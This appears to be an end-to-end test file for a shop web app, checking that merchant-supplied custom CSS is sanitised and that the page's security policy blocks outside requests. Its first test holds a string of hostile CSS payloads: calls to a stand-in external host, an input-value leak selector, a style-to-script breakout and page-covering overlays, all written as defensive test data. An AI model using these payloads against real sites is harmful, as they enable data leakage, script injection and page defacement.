import type { Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Browser, openBrowser } from './browser.ts';
import { buildStorefront } from './build-storefront.ts';
import { chooseShop } from './shopper.ts';
import { openStorefront, type Storefront } from './storefront.ts';

let browser: Browser;
let shop: Storefront;

beforeAll(async () => {
  [browser, shop] = await Promise.all([openBrowser(), openStorefront()]);
});
afterAll(async () => {
  await browser.close();
  await shop.close();
});

const configure = (body: object) =>
  shop.call('/sandbox/config', {
    method: 'PATCH',
    body,
    headers: { 'x-operator-key': shop.keys.operator },
  });

/** The rules added to a page besides its own files, one per line. */
const adopted = (page: Page) =>
  page.evaluate(() =>
    document.adoptedStyleSheets.flatMap(({ cssRules }) => [...cssRules].map(({ cssText }) => cssText)),
  );

/** Malicious style rules, between two harmless ones. */
const HARMFUL = `
@import url("https://elsewhere.test/more.css");
@font-face { font-family: x; src: url(https://elsewhere.test/x.woff2) }
:root { --content: 1080px; --leak: \\75rl(https://elsewhere.test/a); }
body { background: url(https://elsewhere.test/b), red; letter-spacing: 0.5px }
main { background-image: var(--leak, \\75rl("https://elsewhere.test/c")); position: fixed; z-index: 99; color: green }
h1 { background: image-set("https://elsewhere.test/d" 1x) }
@media (width > 1px) { header { position: sticky; opacity: 0.9; cursor: url(https://elsewhere.test/e), auto } }
</style><script>window.harmed = true</script>
main { &::after { content: ""; position: absolute; inset: 0; background: white } }
@layer over { dialog { position: inherit } li::before { all: inherit; content: "" } }
input[value^="a"] { background: url(https://elsewhere.test/f) }
article { transform: translateY(-99px); translate: 9px; margin: -9px 4px; inset: 0; rotate: var(--turn) }
article { margin: var(--less); margin-inline-end: calc(0px - 9px); margin-block: 2px auto }
article { outline: 999px solid red; box-shadow: 0 0 0 999px red; zoom: 9; text-indent: -999px; width: 999vw }
article { filter: drop-shadow(0 999px red); border-image-outset: 999px; font: 999px/0 serif; line-height: 0 }
:root { --shadow-raised: 0 0 0 999px red; --toolbar: 100vh }
li { all: var(--anything); animation: sweep 9s }
@keyframes over { to { scale: 99; top: 0 } }
h1 { letter-spacing: 1px }
`;

test('a demo station is styled by its own rules, none of which fetch anything or cover the page', async () => {
  await configure({ features: { demo_station: true } });
  const visitor = await browser.visit(shop.address);
  const { page, context, troubles } = visitor;
  const asked: string[] = [];
  context.on('request', (request) => void asked.push(request.url()));
  let letAnswer = (): void => undefined;
  const asking = new Promise<void>((resolve) => {
    letAnswer = resolve;
  });
  await page.route('**/application/fetch_config', async (route) => {
    await asking;
    await route.fulfill({ json: { status: 'ok', theme: { primary: 'rebeccapurple' }, custom_css: HARMFUL } });
  });
  const answer = await page.goto('/');
  const policy = answer?.headers()['content-security-policy'];
  expect(policy).toMatch(/^default-src 'none'; script-src 'self'/);
  expect(policy).not.toContain('unsafe');
  await page.getByRole('progressbar').waitFor();
  letAnswer();
  await page.getByRole('progressbar').waitFor({ state: 'detached' });
  await page.getByRole('dialog', { name: 'Where do you want to shop?' }).waitFor();

  const rules = (await adopted(page)).join('\n');
  expect(rules).toContain('--content: 1080px');
  expect(rules).toContain('letter-spacing: 1px');
  expect(rules).toContain('opacity: 0.9');
  expect(rules).toContain('margin-block: 2px auto');
  expect(rules).not.toMatch(/trans(?:form|late)|rotate|scale|inset|top:|margin[^;}]*(?:-\d|calc|var)/);
  expect(rules).not.toMatch(/999|100vh|outline|shadow|zoom|indent|line-height|\ball:|animation|keyframes/);
  expect(rules).not.toMatch(/elsewhere|url|@import|font-face|\bz-index|(?<!-)position:|\\/);
  expect(asked.filter((url) => !url.startsWith(shop.address) && !url.startsWith('data:'))).toEqual([]);
  expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false);

  const drawn = await page.evaluate(() => ({
    primary: getComputedStyle(document.documentElement).getPropertyValue('--primary'),
    icon: document.querySelector<HTMLLinkElement>('link[rel="icon"]')?.href,
    logo: getComputedStyle(document.querySelector('header a span')!, '::before').content,
  }));
  expect(drawn.primary).toBe('#663399');
  for (const picture of [drawn.icon, drawn.logo]) expect(picture).toMatch(/data:image\/svg.*663399/);
  // Filters the browser's message about the rule that it ignores; there was no attempt to violate the page's
  // policy.
  expect(troubles.filter((text) => !text.startsWith('@import rules are not allowed'))).toEqual([]);

  await configure({ features: { demo_station: false } });
  // Stored values apply until the shop has responded.
  const answered = Promise.withResolvers<void>();
  await page.route('**/shopfront_config', async (route) => {
    await answered.promise;
    await route.continue();
  });
  await page.reload();
  await expect.poll(() => adopted(page)).not.toEqual([]);
  answered.resolve();
  const icon = () => page.locator('link[rel="icon"]').getAttribute('href');
  await expect.poll(async () => [await icon(), await adopted(page)]).toEqual(['/favicon.svg', []]);
});

test('a shopper from a free network stays in the window of shops and is offered no other site', async () => {
  await configure({ meta: { facebook_url: 'https://facebook.test/shop', website_url: 'https://site.test' } });
  const { page } = await browser.visit(shop.address);
  const looked = page.waitForRequest(/distance_from/);
  await page.goto('/?referer=moya-discover');
  expect(new URL((await looked).url()).searchParams.get('distance')).toBe('15');
  const shops = page.getByRole('dialog', { name: 'Where do you want to shop?' });
  await shops.waitFor();
  await page.keyboard.press('Escape');
  expect(await shops.getByRole('button', { name: 'Close' }).count()).toBe(0);
  await chooseShop(page);
  await page.getByRole('button', { name: 'Menu' }).click();
  const menu = page.getByRole('dialog');
  await menu.getByRole('link', { name: 'Website' }).waitFor();
  expect(await menu.getByRole('link', { name: 'Facebook' }).count()).toBe(0);
});

test('a build for a live shop shows no demo shopper, and links to its support chat', async () => {
  const { folder } = await buildStorefront({ VITE_SANDBOX: 'false', VITE_SUPPORT_PHONE: '27821234567' });
  const live = await shop.serve(folder);
  const facts = [];
  for (const address of [shop.address, live]) {
    const { page } = await browser.visit(address);
    await page.goto('/sign_in');
    await page.getByRole('textbox', { name: 'Password' }).waitFor();
    const isSandbox = (await page.getByText('This is a sandbox').count()) > 0;
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.getByRole('dialog').getByRole('link', { name: 'Share this shop' }).waitFor();
    const help = page.getByRole('dialog').getByRole('link', { name: 'Get help' });
    facts.push({
      isSandbox,
      help: await Promise.all((await help.all()).map((link) => link.getAttribute('href'))),
    });
  }
  const text = encodeURIComponent('Hello Spaza, please help me with my shopping.');
  expect(facts).toEqual([
    { isSandbox: true, help: [] },
    { isSandbox: false, help: [`https://wa.me/27821234567?text=${text}`] },
  ]);
});
